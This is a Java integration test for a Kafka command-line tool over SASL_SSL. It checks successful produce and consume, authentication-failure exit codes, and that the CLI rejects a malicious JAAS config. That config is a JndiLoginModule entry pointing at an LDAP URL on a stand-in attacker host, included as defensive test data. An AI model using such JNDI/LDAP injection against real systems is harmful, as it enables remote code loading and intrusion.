package dev.skein.cli;

import dev.skein.testkit.KafkaCluster;
import dev.skein.testkit.KafkaCluster.Listener;
import dev.skein.testkit.KafkaClusterExtension;
import dev.skein.testkit.OwnCluster;
import dev.skein.testkit.TestCertificates;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.UUID;

import static dev.skein.cli.CliIT.skein;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** The CLI over SASL_SSL with standard client properties from --config, and its exit codes when security fails. */
@ExtendWith(KafkaClusterExtension.class)
class CliSecurityIT {

    private static Path config(Path dir, KafkaCluster kafka, String jaas) throws Exception {
        Path file = dir.resolve(UUID.randomUUID() + ".properties");
        Files.writeString(file, String.join("\n",
                "security.protocol=SASL_SSL",
                "ssl.truststore.location=" + kafka.certificates().trustStore(),
                "ssl.truststore.password=" + TestCertificates.PASSWORD,
                "sasl.mechanism=PLAIN",
                "sasl.jaas.config=" + jaas.replace("\\", "\\\\")) + "\n");
        return file;
    }

    @Test
    void producesConsumesAndFailsWithClearExitCodes(@OwnCluster(securityListeners = true) KafkaCluster kafka,
                                                    @TempDir Path dir) throws Exception {
        String bootstrap = kafka.bootstrapServers(Listener.SASL_SSL);
        String plain = "org.apache.kafka.common.security.plain.PlainLoginModule required username=\"alice\" password=\"";
        Path good = config(dir, kafka, plain + KafkaCluster.PLAIN_USERS.get("alice") + "\";");
        String topic = "cli-secure-" + UUID.randomUUID().toString().substring(0, 8);

        CliIT.Run created = skein("", "--bootstrap", bootstrap, "--config", good.toString(), "topics", "create",
                "--topic", topic, "--partitions", "2", "--replication-factor", "1");
        assertEquals(0, created.exit(), created.err());
        CliIT.Run produced = skein("a\nb\nc\n", "--bootstrap", bootstrap, "--config", good.toString(), "produce", "--topic", topic);
        assertEquals(0, produced.exit(), produced.err());
        CliIT.Run consumed = skein("", "--bootstrap", bootstrap, "--config", good.toString(), "consume", "--topic", topic,
                "--from-beginning", "--max-messages", "3");
        assertEquals(0, consumed.exit(), consumed.err());
        assertEquals(List.of("a", "b", "c"), consumed.lines().stream().sorted().toList());

        String wrong = "Not-Alices-Password";
        Path bad = config(dir, kafka, plain + wrong + "\";");
        // The cluster, configs and transactions commands too, those that report per item (a feature, an id) included.
        for (String[] command : List.of(new String[] {"topics", "list"}, new String[] {"consume", "--topic", topic,
                "--from-beginning", "--max-messages", "1"}, new String[] {"cluster", "describe"},
                new String[] {"cluster", "features", "upgrade", "share.version=1"},
                new String[] {"configs", "describe", "--topic", topic}, new String[] {"transactions", "describe", "some-id"})) {
            long start = System.nanoTime();
            List<String> args = new java.util.ArrayList<>(List.of("--bootstrap", bootstrap, "--config", bad.toString()));
            args.addAll(List.of(command));
            CliIT.Run refused = skein("", args.toArray(String[]::new));
            assertEquals(Cli.AUTHENTICATION, refused.exit(), refused.err());
            assertTrue(refused.err().startsWith("skein: ") && refused.err().contains("Authentication failed"), refused.err());
            assertFalse(refused.err().contains(wrong), refused.err());
            assertTrue(System.nanoTime() - start < 20_000_000_000L, "within seconds");
        }
        CliIT.Run produceRefused = skein("x\n", "--bootstrap", bootstrap, "--config", bad.toString(), "produce", "--topic", topic);
        assertEquals(Cli.AUTHENTICATION, produceRefused.exit(), produceRefused.err());

        Path jndi = config(dir, kafka, "com.sun.security.auth.module.JndiLoginModule required"
                + " user.provider.url=\"ldap://attacker.invalid/o=x\";");
        CliIT.Run refusedModule = skein("", "--bootstrap", bootstrap, "--config", jndi.toString(), "topics", "list");
        assertEquals(Cli.USAGE, refusedModule.exit(), refusedModule.err());
        assertTrue(refusedModule.err().contains("sasl.jaas.config"), refusedModule.err());
    }
}
